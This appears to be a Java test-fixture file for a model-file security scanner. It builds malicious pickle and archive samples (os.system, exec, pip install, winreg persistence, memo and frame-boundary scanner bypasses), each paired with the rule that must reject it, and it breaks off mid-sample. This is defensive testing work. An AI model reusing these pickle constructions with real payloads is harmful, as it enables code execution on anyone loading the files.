package io.airlock.scanner.engine;

import io.airlock.fixtures.TarBuilder;
import io.airlock.fixtures.UnicodePathZip;

import io.airlock.fixtures.PickleBuilder;
import io.airlock.fixtures.Samples;
import io.airlock.fixtures.SavedModelBuilder;
import io.airlock.fixtures.ZipBuilder;

import io.airlock.scanner.engine.Folders.Container;
import io.airlock.scanner.engine.analysis.WeightStats;
import io.airlock.fixtures.GgufFixtures;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;

import static io.airlock.scanner.engine.Folders.with;
import static io.airlock.fixtures.PickleBuilder.calling;
import static io.airlock.fixtures.PickleBuilder.callingProto2;
import static io.airlock.fixtures.PickleBuilder.p;
import static io.airlock.fixtures.Samples.ascii;
import static io.airlock.fixtures.Samples.concat;
import static io.airlock.fixtures.Samples.le64;
import static io.airlock.fixtures.ZipBuilder.zip;

/**
 * A corpus of hostile and benign model files, built byte by byte in code: each published scanner
 * bypass we could find re-created (payloads are harmless strings such as {@code id}; nothing here is
 * ever loaded or executed) and a format attack for every check of the engine, each with the rule
 * that must reject it; honest files of every format that must pass. {@link #KNOWN_GAPS} holds the
 * attacks the engine still misses: {@code HostileCorpusTest} asserts that they are missed, so fixing
 * one fails the test until the sample moves to {@link #HOSTILE}. docs/HOSTILE-CORPUS.md describes it.
 */
public final class HostileCorpus {
    private HostileCorpus() {
    }

    /**
     * One sample.
     *
     * @param name         unique, shown as the test name
     * @param family       the attack family (or "benign ..." for honest files), for the counts in the docs
     * @param source       where the attack was published, or which format rule it attacks
     * @param fileName     what the file is called when scanned (the engine sniffs content, never names)
     * @param bytes        the file: a model file, or a folder packed as a zip, tar or tar.gz
     * @param expectedRule the rule that must reject it; "" for a benign sample
     */
    public record Sample(String name, String family, String source, String fileName, byte[] bytes, String expectedRule) {
        public boolean hostile() {
            return !expectedRule.isEmpty();
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static final String PICKLE_CALLABLES = "pickle: dangerous callables";
    static final String PICKLE_NAMES = "pickle: name and memo tricks";
    static final String PICKLE_OPCODES = "pickle: opcode tricks";
    static final String PICKLE_STREAMS = "pickle: stream tricks and polyglots";
    static final String CONTAINERS = "pickle containers: gzip, numpy, joblib, torch legacy, 7z";
    static final String TORCH_ZIP = "PyTorch zip and zip structure";
    static final String TAR = "tar archives";
    static final String GGUF = "GGUF";
    static final String SAFETENSORS = "safetensors";
    static final String WEIGHTS = "weights";
    static final String FOLDERS = "model folders and repositories: Hugging Face, Keras, diffusers, ONNX";
    static final String FORMATS_READ = "formats read, not refused: Keras 3 objects, TensorFlow SavedModel, 7z, chat templates alone";

    static final String DANGEROUS = "pickle.dangerous_import";
    static final String GADGETS = "picklescan/modelscan unsafe-globals lists (see FIELD-NOTES): ";
    static final String FICKLING = "Trail of Bits fickling (2021) / Sleepy Pickle (2024): ";
    static final String NULLIFAI = "ReversingLabs 2025 'nullifAI': ";

    /** A payload every hostile pickle below carries: os.system('id'), protocol 4 with a FRAME. */
    static final byte[] EVIL = calling("os", "system", "id");
    static final byte[] DATA_PKL = PickleBuilder.torchDataPkl(2, 4);

    public static final List<Sample> HOSTILE = hostile();
    public static final List<Sample> BENIGN = benign();
    public static final List<Sample> KNOWN_GAPS = knownGaps();

    public static List<Sample> all() {
        List<Sample> all = new ArrayList<>(HOSTILE);
        all.addAll(BENIGN);
        all.addAll(KNOWN_GAPS);
        return all;
    }

    /** Collects samples of one family with less ceremony. */
    private static final class Catalogue {
        final List<Sample> out = new ArrayList<>();
        String family = "";

        Catalogue family(String f) {
            family = f;
            return this;
        }

        Catalogue add(String name, String source, byte[] bytes, String rule) {
            return add(name, source, "sample.bin", bytes, rule);
        }

        Catalogue add(String name, String source, String fileName, byte[] bytes, String rule) {
            out.add(new Sample(name, family, source, fileName, bytes, rule));
            return this;
        }
    }

    // ---- hostile ------------------------------------------------------------------------------------

    private static List<Sample> hostile() {
        Catalogue c = new Catalogue();
        pickleCallables(c.family(PICKLE_CALLABLES));
        pickleAliases(c);
        pickleNames(c.family(PICKLE_NAMES));
        pickleOpcodes(c.family(PICKLE_OPCODES));
        pickleStreams(c.family(PICKLE_STREAMS));
        containers(c.family(CONTAINERS));
        torchAndZip(c.family(TORCH_ZIP));
        unicodePaths(c);
        tar(c.family(TAR));
        c.family(GGUF);
        FormatAttacks.gguf().forEach(a -> c.add(a.name(), a.source(), "model.gguf", a.bytes(), a.rule()));
        c.family(SAFETENSORS);
        FormatAttacks.safetensors().forEach(a -> c.add(a.name(), a.source(), "model.safetensors", a.bytes(), a.rule()));
        weights(c.family(WEIGHTS));
        folders(c.family(FOLDERS));
        kerasH5(c);
        formatsRead(c.family(FORMATS_READ));
        return List.copyOf(c.out);
    }

    private static void pickleCallables(Catalogue c) {
        c.add("os.system through protocol 0 GLOBAL (__reduce__ payload)", "JFrog 2024: malicious Hugging Face models whose"
                        + " __reduce__ runs a command", "pytorch_model.bin", ascii("cos\nsystem\n(S'id'\ntR."), DANGEROUS)
                .add("builtins.exec of a code string", "JFrog 2024: Hugging Face models running exec() from __reduce__",
                        callingProto2("builtins", "exec", "print('airlock corpus')"), DANGEROUS)
                .add("builtins.eval", GADGETS + "code execution", calling("builtins", "eval", "1+1"), DANGEROUS)
                .add("getattr(__import__('os'), 'system')('id')", GADGETS + "GLOBAL builtins getattr walk",
                        p().proto(2).global("builtins", "getattr").mark().global("builtins", "__import__").mark().binUnicode("os")
                                .tuple().reduce().binUnicode("system").tuple().reduce().mark().binUnicode("id").tuple().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("pip.main(['install', ...])", "Sonatype 2025, CVE-2025-1716: picklescan misses pip.main",
                        callList("pip", "main", "install", "--quiet", "example-package"), DANGEROUS)
                .add("pip._internal.cli.main.main", "Sonatype 2025, CVE-2025-1716 (pip's internal entry point)",
                        callList("pip._internal.cli.main", "main", "install", "example-package"), DANGEROUS)
                .add("importlib.import_module('os')", GADGETS + "universal resolver", calling("importlib", "import_module", "os"), DANGEROUS)
                .add("pkgutil.resolve_name('os:system')", GADGETS + "universal resolver", calling("pkgutil", "resolve_name", "os:system"),
                        DANGEROUS)
                .add("pydoc.locate('os.system')", GADGETS + "universal resolver", calling("pydoc", "locate", "os.system"), DANGEROUS)
                .add("code.InteractiveInterpreter.runsource", GADGETS + "interactive interpreter",
                        p().proto(4).stackGlobal("code", "InteractiveInterpreter.runsource").mark()
                                .stackGlobal("code", "InteractiveInterpreter").emptyTuple().reduce().str("import os").tuple()
                                .reduce().stop().bytes(), DANGEROUS)
                .add("_posixsubprocess.fork_exec", GADGETS + "process creation below subprocess",
                        calling("_posixsubprocess", "fork_exec", "/bin/sh"), DANGEROUS)
                .add("runpy._run_code", GADGETS + "runs a code string", calling("runpy", "_run_code", "import os"), DANGEROUS)
                .add("runpy.run_path", GADGETS + "runs a file", calling("runpy", "run_path", "/tmp/x.py"), DANGEROUS)
                .add("pty.spawn('/bin/sh')", GADGETS + "stdlib command runner", calling("pty", "spawn", "/bin/sh"), DANGEROUS)
                .add("bdb.Bdb.run on a code string", GADGETS + "debugger executes code strings",
                        p().proto(4).stackGlobal("bdb", "Bdb.run").mark().stackGlobal("bdb", "Bdb").emptyTuple().reduce()
                                .str("import os").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("pdb.run", GADGETS + "debugger executes code strings", calling("pdb", "run", "import os"), DANGEROUS)
                .add("cProfile.run", GADGETS + "profiler executes code strings", calling("cProfile", "run", "import os"), DANGEROUS)
                .add("profile.run", GADGETS + "profiler executes code strings", calling("profile", "run", "import os"), DANGEROUS)
                .add("timeit.timeit", GADGETS + "executes code strings", calling("timeit", "timeit", "import os"), DANGEROUS)
                .add("idlelib.calltip.get_entity (eval)", GADGETS + "idlelib evaluates expressions",
                        calling("idlelib.calltip", "get_entity", "__import__('os')"), DANGEROUS)
                .add("doctest.debug_script", GADGETS + "executes code strings", calling("doctest", "debug_script", "import os"), DANGEROUS)
                .add("ctypes.CDLL('libc.so.6')", GADGETS + "native code", calling("ctypes", "CDLL", "libc.so.6"), DANGEROUS)
                .add("webbrowser.open", GADGETS + "launches programs", calling("webbrowser", "open", "https://example.invalid"),
                        DANGEROUS)
                .add("operator.attrgetter chain to os.system", GADGETS + "call gadget",
                        p().proto(4).stackGlobal("operator", "attrgetter").mark().str("system").tuple().reduce()
                                .mark().stackGlobal("importlib", "import_module").mark().str("os").tuple().reduce().tuple().reduce()
                                .mark().str("id").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("operator.methodcaller('system', 'id')", GADGETS + "call gadget", calling("operator", "methodcaller", "system", "id"),
                        DANGEROUS)
                .add("functools.partial(os.system, 'id')()", GADGETS + "call gadget",
                        p().proto(4).stackGlobal("functools", "partial").mark().stackGlobal("os", "system").str("id").tuple()
                                .reduce().emptyTuple().reduce().stop().bytes(), DANGEROUS)
                .add("numpy.load(path, None, allow_pickle=True)", GADGETS + "nested unpickling (CVE-2019-6446 behaviour)",
                        p().proto(4).stackGlobal("numpy", "load").mark().str("payload.npy").none().op(0x88).tuple().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("numpy.testing._private.utils.runstring", GADGETS + "executes code strings",
                        calling("numpy.testing._private.utils", "runstring", "import os"), DANGEROUS)
                .add("torch.serialization.load (nested load)", GADGETS + "torch internals that load",
                        calling("torch.serialization", "load", "other.pt"), DANGEROUS)
                .add("torch.hub.load", GADGETS + "downloads and runs code", calling("torch.hub", "load", "someone/repo", "model"),
                        DANGEROUS)
                .add("torch.storage._load_from_bytes", GADGETS + "nested torch.load",
                        p().proto(4).stackGlobal("torch.storage", "_load_from_bytes").shortBinBytes(EVIL).tuple1().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("torch.fx.graph_module._forward_from_src", GADGETS + "torch internals that execute code strings",
                        calling("torch.fx.graph_module", "_forward_from_src", "import os"), DANGEROUS)
                .add("torch.utils.cpp_extension.load_inline", GADGETS + "compiles native code",
                        calling("torch.utils.cpp_extension", "load_inline", "x", "int x;"), DANGEROUS)
                .add("asyncio.unix_events submodule", "JFrog 2025 picklescan advisories: a submodule of a blocked module",
                        calling("asyncio.unix_events", "_UnixSubprocessTransport", "id"), DANGEROUS)
                .add("uuid._get_command_stdout", GADGETS + "uuid internals run commands", calling("uuid", "_get_command_stdout", "id"),
                        DANGEROUS)
                .add("_osx_support._read_output", GADGETS + "runs commands", calling("_osx_support", "_read_output", "id"), DANGEROUS)
                .add("imaplib.IMAP4_stream", GADGETS + "runs a command as a mail server", calling("imaplib", "IMAP4_stream", "id"),
                        DANGEROUS)
                .add("ensurepip._run_pip", GADGETS + "runs pip", callList("ensurepip", "_run_pip", "install", "example-package"),
                        DANGEROUS)
                .add("logging.FileHandler (creates a file)", GADGETS + "file side effects",
                        calling("logging", "FileHandler", "/tmp/airlock-corpus"), DANGEROUS)
                .add("_io.FileIO(path, 'w')", GADGETS + "file side effects", calling("_io", "FileIO", "/tmp/airlock-corpus", "w"),
                        DANGEROUS)
                .add("urllib.request.urlopen", GADGETS + "network", calling("urllib.request", "urlopen", "http://example.invalid"),
                        DANGEROUS)
                .add("socket.create_connection", GADGETS + "network",
                        p().proto(4).stackGlobal("socket", "create_connection").str("example.invalid").int1(80).op(0x86)
                                .tuple1().reduce().stop().bytes(), DANGEROUS)
                .add("shutil.rmtree", GADGETS + "deletes files", calling("shutil", "rmtree", "/tmp/airlock-corpus"), DANGEROUS)
                .add("subprocess.check_output(['id'])", GADGETS + "runs commands", callList("subprocess", "check_output", "id"),
                        DANGEROUS)
                .add("posix.system", GADGETS + "os internals", calling("posix", "system", "id"), DANGEROUS)
                .add("nt.system", GADGETS + "os internals (Windows)", calling("nt", "system", "id"), DANGEROUS)
                .add("platform.popen", GADGETS + "runs commands", calling("platform", "popen", "id"), DANGEROUS)
                .add("Python 2 __builtin__.eval", GADGETS + "Python 2 names renamed by protocol 2",
                        callingProto2("__builtin__", "eval", "1"), DANGEROUS)
                .add("Python 2 commands.getoutput", GADGETS + "Python 2 names renamed by protocol 2",
                        callingProto2("commands", "getoutput", "id"), DANGEROUS)
                .add("dill.loads nested", GADGETS + "nested unpickling of code", calling("dill", "loads", "x"), DANGEROUS)
                .add("_pickle.loads nested", GADGETS + "nested unpickling",
                        p().proto(4).stackGlobal("_pickle", "loads").shortBinBytes(EVIL).tuple1().reduce().stop().bytes(), DANGEROUS)
                .add("yaml.unsafe_load", GADGETS + "unsafe YAML", calling("yaml", "unsafe_load", "!!python/object/apply:os.system [id]"),
                        DANGEROUS)
                .add("types.FunctionType(marshal.loads(...))", GADGETS + "code construction",
                        p().proto(4).stackGlobal("types", "FunctionType").mark().stackGlobal("marshal", "loads")
                                .shortBinBytes(new byte[]{(byte) 0xe3, 0, 0, 0, 0}).tuple1().reduce().emptyDict().tuple().reduce()
                                .emptyTuple().reduce().stop().bytes(), DANGEROUS)
                .add("sys.modules['os']", GADGETS + "interpreter state",
                        p().proto(4).stackGlobal("builtins", "dict.get").mark().stackGlobal("sys", "modules").str("os").tuple()
                                .reduce().stop().bytes(), DANGEROUS);
    }

    /**
     * Closed gaps of the import list: stdlib single-call gadgets it lacked, and the modules that
     * define a listed public name (find_class imports whichever spelling a pickle names).
     */
    private static void pickleAliases(Catalogue c) {
        String found = "found while building this corpus (a closed known gap): ";
        String alias = "defining module of a listed name: ";
        String cModule = "C module behind a listed module: ";
        String path = "/tmp/airlock-corpus";
        c.add("_bootsubprocess.check_output runs a command", found + "stdlib gadget off the list; it calls os.system",
                        "x.pkl", callList("_bootsubprocess", "check_output", "touch", path), DANGEROUS)
                .add("importing antigravity opens a browser", found + "find_class imports the module, whose import calls"
                        + " webbrowser.open: no call needed", "x.pkl", p().proto(4).stackGlobal("antigravity", "geohash").stop().bytes(),
                        DANGEROUS)
                .add("_frozen_importlib._gcd_import as a resolver", found + alias + "importlib's own import", "x.pkl",
                        calling("_frozen_importlib", "_gcd_import", "antigravity"), DANGEROUS)
                .add("_frozen_importlib_external.spec_from_file_location", alias + "importlib's path loaders import any file",
                        calling("_frozen_importlib_external", "spec_from_file_location", "x", path + ".py"), DANGEROUS)
                .add("_imp.init_frozen", cModule + "importlib's C half runs frozen modules",
                        calling("_imp", "init_frozen", "__hello__"), DANGEROUS)
                .add("numpy._core.memmap.memmap truncates a file", found + alias + "numpy.memmap (numpy 2); mode w+ truncates",
                        "x.pkl", p().proto(4).stackGlobal("numpy._core.memmap", "memmap").mark().str(path)
                                .str("uint8").str("w+").int1(0).int1(1).tuple1().tuple().reduce().stop().bytes(), DANGEROUS)
                .add("numpy.core.memmap.memmap truncates a file", alias + "numpy.memmap (numpy 1)",
                        p().proto(4).stackGlobal("numpy.core.memmap", "memmap").mark().str(path).str("uint8").str("w+")
                                .tuple().reduce().stop().bytes(), DANGEROUS)
                .add("numpy.core.multiarray.fromfile", alias + "numpy.fromfile (numpy 1)",
                        calling("numpy.core.multiarray", "fromfile", "/etc/passwd"), DANGEROUS)
                .add("numpy._core.multiarray.fromfile", alias + "numpy.fromfile (numpy 2)",
                        calling("numpy._core.multiarray", "fromfile", "/etc/passwd"), DANGEROUS)
                .add("numpy.core._multiarray_umath.fromfile", cModule + "numpy.fromfile (numpy 1)",
                        calling("numpy.core._multiarray_umath", "fromfile", "/etc/passwd"), DANGEROUS)
                .add("numpy._core._multiarray_umath.fromfile", cModule + "numpy.fromfile (numpy 2)",
                        calling("numpy._core._multiarray_umath", "fromfile", "/etc/passwd"), DANGEROUS)
                .add("joblib.numpy_pickle.load of another file", found + alias + "joblib.load", "x.pkl",
                        calling("joblib.numpy_pickle", "load", path + ".pkl"), DANGEROUS)
                .add("joblib.numpy_pickle_compat.load_compatibility", alias + "old joblib files are unpickled",
                        calling("joblib.numpy_pickle_compat", "load_compatibility", path + ".pkl"), DANGEROUS)
                .add("joblib.dump writes a file", "file side effect like the listed numpy.save", calling("joblib", "dump", "x", path),
                        DANGEROUS)
                .add("gzip.open truncates a file", found + "file side effect like the listed io.open", "x.pkl",
                        calling("gzip", "open", path, "wb"), DANGEROUS)
                .add("gzip.GzipFile truncates a file", "file side effect like the listed io.open",
                        calling("gzip", "GzipFile", path, "wb"), DANGEROUS)
                .add("bz2.open truncates a file", "file side effect like the listed io.open", calling("bz2", "open", path, "wb"),
                        DANGEROUS)
                .add("bz2.BZ2File truncates a file", "file side effect like the listed io.open", calling("bz2", "BZ2File", path, "w"),
                        DANGEROUS)
                .add("lzma.open truncates a file", "file side effect like the listed io.open", calling("lzma", "open", path, "wb"),
                        DANGEROUS)
                .add("lzma.LZMAFile truncates a file", "file side effect like the listed io.open",
                        calling("lzma", "LZMAFile", path, "w"), DANGEROUS)
                .add("io.open_code", "opens files like the listed io.open", calling("io", "open_code", "/etc/passwd"), DANGEROUS)
                .add("winreg.SetValue writes a Run key", found + "Windows persistence", "x.pkl",
                        p().proto(4).stackGlobal("winreg", "SetValue").mark().op('J').le(0x80000001L, 4)
                                .str("Software\\Microsoft\\Windows\\CurrentVersion\\Run").int1(1).str("calc").tuple().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("_winreg.DeleteKey", "winreg's Python 2 name", p().proto(4).stackGlobal("_winreg", "DeleteKey").mark()
                        .op('J').le(0x80000001L, 4).str("Software\\airlock-corpus").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("_operator.attrgetter('system')", alias + "operator.attrgetter", calling("_operator", "attrgetter", "system"),
                        DANGEROUS)
                .add("_operator.methodcaller('system', 'id')", alias + "operator.methodcaller",
                        calling("_operator", "methodcaller", "system", "id"), DANGEROUS)
                .add("_functools.partial(os.system, 'id')()", alias + "functools.partial",
                        p().proto(4).stackGlobal("_functools", "partial").mark().stackGlobal("posix", "system").str("id").tuple()
                                .reduce().emptyTuple().reduce().stop().bytes(), DANGEROUS)
                .add("_functools.reduce", alias + "functools.reduce",
                        p().proto(4).stackGlobal("_functools", "reduce").mark().stackGlobal("_operator", "add").emptyList()
                                .mark().str("i").str("d").op('e').tuple().reduce().stop().bytes(), DANGEROUS)
                .add("_signal.alarm", cModule + "signal", p().proto(4).stackGlobal("_signal", "alarm").int1(1).tuple1().reduce()
                        .stop().bytes(), DANGEROUS)
                .add("_multiprocessing.sem_unlink", cModule + "multiprocessing", calling("_multiprocessing", "sem_unlink",
                        "/airlock-corpus"), DANGEROUS)
                .add("_posixshmem.shm_unlink", cModule + "multiprocessing.shared_memory", calling("_posixshmem", "shm_unlink",
                        "/airlock-corpus"), DANGEROUS)
                .add("_asyncio.get_event_loop", cModule + "asyncio", calling("_asyncio", "get_event_loop"), DANGEROUS)
                .add("_sqlite3.connect creates a file", cModule + "sqlite3", calling("_sqlite3", "connect", path + ".db"), DANGEROUS)
                .add("_dbm.open creates a file", cModule + "dbm.ndbm", calling("_dbm", "open", path, "c"), DANGEROUS)
                .add("_gdbm.open creates a file", cModule + "dbm.gnu", calling("_gdbm", "open", path, "c"), DANGEROUS)
                .add("_ssl._SSLContext", cModule + "ssl (network)", p().proto(4).stackGlobal("_ssl", "_SSLContext").int1(2).tuple1()
                        .reduce().stop().bytes(), DANGEROUS)
                .add("tkinter.Tcl interpreter", "found while closing the import gaps: Tcl's exec runs commands",
                        p().proto(4).stackGlobal("tkinter", "Tcl").emptyTuple().reduce().stop().bytes(), DANGEROUS)
                .add("_tkinter TkappType.eval('exec id')", "found while closing the import gaps: a Tcl interpreter without Tk"
                                + " needs no display, and Tcl's exec runs commands",
                        p().proto(4).stackGlobal("_tkinter", "TkappType.eval").mark().stackGlobal("_tkinter", "create").mark()
                                .none().str("x").str("Tk").op(0x89).op(0x89).op(0x89).tuple().reduce().str("exec id").tuple().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("importing unittest.__main__", "found while closing the import gaps: the module runs test discovery"
                        + " (imports test files from the working directory) when imported",
                        p().proto(4).stackGlobal("unittest.__main__", "main").stop().bytes(), DANGEROUS)
                .add("importing lib2to3.__main__", "found while closing the import gaps: the module runs 2to3 on the"
                        + " process's own arguments when imported", p().proto(4).stackGlobal("lib2to3.__main__", "main").stop().bytes(),
                        DANGEROUS);
    }

    private static void pickleNames(Catalogue c) {
        c.add("dotted name pathlib + os.system", "published picklescan bypass (FIELD-NOTES): dotted names",
                        calling("pathlib", "os.system", "id"), DANGEROUS)
                .add("pathlib.Path.write_text writes a file", UNBOUND,
                        p().proto(4).stackGlobal("pathlib", "Path.write_text").mark().stackGlobal("pathlib", "PosixPath")
                                .str("/tmp/airlock-corpus").tuple1().reduce().str("x").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("numpy.ndarray.tofile writes a file", UNBOUND,
                        p().proto(4).stackGlobal("numpy", "ndarray.tofile").mark().stackGlobal("numpy.core.multiarray", "_reconstruct")
                                .stackGlobal("numpy", "ndarray").int1(0).tuple1().shortBinBytes(new byte[]{'b'}).op(0x87).reduce()
                                .str("/tmp/airlock-corpus").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("dotted name logging + os.system", "published picklescan bypass (FIELD-NOTES): dotted names",
                        calling("logging", "os.system", "id"), DANGEROUS)
                .add("dotted name typing + sys.modules", "published picklescan bypass (FIELD-NOTES): dotted names",
                        p().proto(4).stackGlobal("typing", "sys.modules").stop().bytes(), DANGEROUS)
                .add("dotted STACK_GLOBAL torch + serialization.load", "torch.serialization reached through torch",
                        calling("torch", "serialization.load", "other.pt"), DANGEROUS)
                .add("numpy.__builtins__", "published picklescan bypass (FIELD-NOTES): numpy.__builtins__",
                        p().proto(4).stackGlobal("numpy", "__builtins__").stop().bytes(), DANGEROUS)
                .add("dotted __builtins__.eval under an allowlisted torch module", "dotted STACK_GLOBAL to __builtins__.eval",
                        calling("torch.nn.modules.module", "__builtins__.eval", "1"), DANGEROUS)
                .add("dunder walk Module.__init__.__globals__", "dotted STACK_GLOBAL through a function's globals",
                        p().proto(4).stackGlobal("torch.nn.modules.module", "Module.__init__.__globals__").stop().bytes(), DANGEROUS)
                .add("the module sys named through an allowlisted module", "attribute walk to a dangerous module",
                        p().proto(4).stackGlobal("torch.nn.modules.module", "sys").stop().bytes(), DANGEROUS)
                .add("memo hides the callable: PUT then GET before REDUCE", FICKLING + "memo tricks",
                        p().proto(2).global("os", "system").binput(0).pop().none().pop().binget(0).mark().binUnicode("id")
                                .tuple().reduce().stop().bytes(), DANGEROUS)
                .add("memo-fetched names for STACK_GLOBAL", FICKLING + "memo tricks",
                        p().proto(4).str("os").binput(0).pop().str("system").binput(1).pop().binget(0).binget(1).stackGlobal()
                                .mark().str("id").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("memo names via LONG_BINPUT and MEMOIZE", FICKLING + "memo tricks",
                        p().proto(4).str("subprocess").memoize().str("getoutput").longBinput(70000).pop().pop().binget(0)
                                .longBinget(70000).stackGlobal().mark().str("id").tuple().reduce().stop().bytes(), DANGEROUS)
                .add("protocol 0 PUT and GET of the names", FICKLING + "memo tricks",
                        p().string("'os'").put(7).pop().get(7).string("'system'").stackGlobal().mark().string("'id'").tuple()
                                .reduce().stop().bytes(), DANGEROUS)
                .add("protocol 0 STRING operands to STACK_GLOBAL", "published picklescan bypass (FIELD-NOTES)",
                        p().proto(2).string("'os'").string("'system'").stackGlobal().mark().string("'id'").tuple().reduce()
                                .stop().bytes(), DANGEROUS)
                .add("STRING operands with escapes", "published picklescan bypass (FIELD-NOTES), escaped",
                        p().proto(2).string("'o\\x73'").string("\"sys\\164em\"").stackGlobal().mark().string("'id'").tuple()
                                .reduce().stop().bytes(), DANGEROUS)
                .add("BINSTRING and SHORT_BINSTRING operands", "operand opcodes a scanner may not decode",
                        p().proto(2).binString("os").shortBinString("system").stackGlobal().stop().bytes(), DANGEROUS)
                .add("protocol 0 UNICODE operands with escapes", "operand opcodes a scanner may not decode",
                        p().unicode("\\u006fs").unicode("system").stackGlobal().stop().bytes(), DANGEROUS)
                .add("BINUNICODE8 operands", "operand opcodes a scanner may not decode",
                        p().proto(4).op(0x8d).le(2, 8).ascii("os").op(0x8d).le(6, 8).ascii("system").stackGlobal().stop().bytes(),
                        DANGEROUS)
                .add("name computed at load time", "STACK_GLOBAL on a call result", p().proto(4).call("collections", "OrderedDict")
                        .str("x").stackGlobal().stop().bytes(), "pickle.dynamic_import")
                .add("memo value that is not a string used as a module", FICKLING + "memo tricks",
                        p().proto(4).call("collections", "OrderedDict").binput(3).pop().str("os").binget(3).stackGlobal()
                                .stop().bytes(), "pickle.dynamic_import")
                .add("memo GET of a key never PUT", FICKLING + "memo tricks (missing key)", p().proto(2).binget(9).stop().bytes(),
                        "pickle.malformed");
    }

    private static void pickleOpcodes(Catalogue c) {
        String ext = "copyreg extension registry opcodes: the global is not in the stream";
        c.add("EXT1 opcode", ext, p().proto(2).op(0x82).op(1).emptyTuple().reduce().stop().bytes(), "pickle.extension_code")
                .add("EXT2 opcode", ext, p().proto(2).op(0x83).le(300, 2).emptyTuple().reduce().stop().bytes(), "pickle.extension_code")
                .add("EXT4 opcode", ext, p().proto(2).op(0x84).le(70000, 4).emptyTuple().reduce().stop().bytes(), "pickle.extension_code")
                .add("protocol 0 INST os.system", "protocol 0 call opcodes", p().mark().string("'id'").inst("os", "system").stop().bytes(),
                        DANGEROUS)
                .add("protocol 1 OBJ os.system", "protocol 0/1 call opcodes",
                        p().mark().global("os", "system").string("'id'").op('o').stop().bytes(), DANGEROUS)
                .add("NEWOBJ subprocess.Popen", "protocol 2 object construction",
                        p().proto(2).global("subprocess", "Popen").mark().binUnicode("id").tuple().newobj().stop().bytes(), DANGEROUS)
                .add("NEWOBJ_EX subprocess.Popen", "protocol 4 object construction with kwargs",
                        p().proto(4).stackGlobal("subprocess", "Popen").mark().str("id").tuple().emptyDict().op(0x92).stop().bytes(),
                        DANGEROUS)
                .add("NEXT_BUFFER out-of-band data", "protocol 5 buffers hold data the scanner cannot see",
                        p().proto(5).op(0x97).stop().bytes(), "pickle.out_of_band")
                .add("READONLY_BUFFER", "protocol 5 buffers", p().proto(5).shortBinBytes(new byte[]{1}).op(0x98).stop().bytes(),
                        "pickle.out_of_band")
                .add("injected call whose result is popped", FICKLING + "payload injected before the real object",
                        p().proto(4).call("mylib", "side_effect", "x").pop().emptyDict().stop().bytes(), "pickle.discarded_call")
                .add("POP_MARK discarding a call", FICKLING + "payload result discarded",
                        p().proto(4).mark().call("mylib", "side_effect").popMark().none().stop().bytes(), "pickle.discarded_call")
                .add("call left under the result at STOP", FICKLING + "payload result left behind",
                        p().proto(4).call("mylib", "side_effect").none().stop().bytes(), "pickle.discarded_call")
                .add("exec injected into a state dict (fickling style)", FICKLING + "exec injected, then the real state dict",
                        p().proto(2).global("builtins", "exec").mark().binUnicode("import os").tuple().reduce().pop()
                                .global("collections", "OrderedDict").emptyTuple().reduce().stop().bytes(), DANGEROUS)
                .add("BUILD on a module: monkey-patching", FICKLING + "Sleepy Pickle patches modules at load",
                        p().proto(4).stackGlobal("torch", "nn").emptyDict().str("functional").none().setitem().build().stop().bytes(),
                        "pickle.global_mutation")
                .add("call on a call's result", "getattr-style gadget without getattr",
                        p().proto(4).call("collections", "OrderedDict").mark().str("x").tuple().reduce().stop().bytes(),
                        "pickle.dynamic_call")
                .add("_operator.attrgetter alias walking to torch.hub.load", "alias of a listed gadget (operator.attrgetter is"
                                + " _operator.attrgetter) through an allowlisted module",
                        p().proto(4).stackGlobal("_operator", "attrgetter").mark().str("torch.hub.load").tuple().reduce()
                                .mark().stackGlobal("torch.nn.modules", "module").tuple().reduce()
                                .mark().str("someone/repo").str("model").tuple().reduce().stop().bytes(), "pickle.dynamic_call");
    }

    private static void pickleStreams(Catalogue c) {
        byte[] honest = p().proto(2).none().stop().bytes();
        c.add("second pickle stream is the malicious one", "multiple pickle streams in one file (the loader reads them all)",
                        concat(honest, EVIL), DANGEROUS)
                .add("garbage after STOP", "bytes after the last stream", concat(honest, new byte[]{(byte) 0xfe, (byte) 0xff, 1, 2}),
                        "pickle.trailing_data")
                .add("payload before a broken stream", NULLIFAI + "the call runs before the stream breaks",
                        p().proto(2).global("os", "system").mark().binUnicode("id").tuple().reduce()
                                .raw((byte) 0xff, (byte) 0xfe).bytes(), DANGEROUS)
                .add("the broken stream itself", NULLIFAI + "a stream CPython refuses after the call",
                        p().proto(2).global("os", "system").mark().binUnicode("id").tuple().reduce().raw((byte) 0xff).bytes(),
                        "pickle.malformed")
                .add("FRAME longer than its content", "FRAME length disagrees with the content",
                        p().proto(4).frame(100).none().stop().raw(new byte[20]).bytes(), "pickle.malformed")
                .add("FRAME shorter than its content", "FRAME length disagrees with the content",
                        p().proto(4).frame(1).str("os").stop().bytes(), "pickle.malformed")
                // what CPython's C unpickler runs past a FRAME that lies (pickle._Unpickler stops): LoaderDivergenceTest
                .add("payload across a FRAME boundary", FICKLING + "frame-boundary divergence: the C unpickler reads on",
                        FrameTricks.acrossBoundary(), DANGEROUS)
                .add("payload in a FRAME inside a FRAME", FICKLING + "frame-boundary divergence: nested FRAME",
                        FrameTricks.nested(), DANGEROUS)
                .add("payload after STOP inside a long FRAME", FICKLING + "frame-boundary divergence: STOP before the frame ends",
                        FrameTricks.afterEarlyStop(), DANGEROUS)
                .add("payload only torch.load's reading runs", FICKLING + "frame-boundary divergence: a FRAME ends inside a"
                        + " string's length; the C unpickler over an io.BytesIO reads the length afresh and runs the string's bytes",
                        FrameTricks.bytesIoOnly(), DANGEROUS)
                .add("the same as data.pkl of a torch zip", FICKLING + "frame-boundary divergence where torch.load reads it",
                        "model.pt", zip().with("archive/data.pkl", FrameTricks.bytesIoOnly()).with("archive/version", "3\n".getBytes(
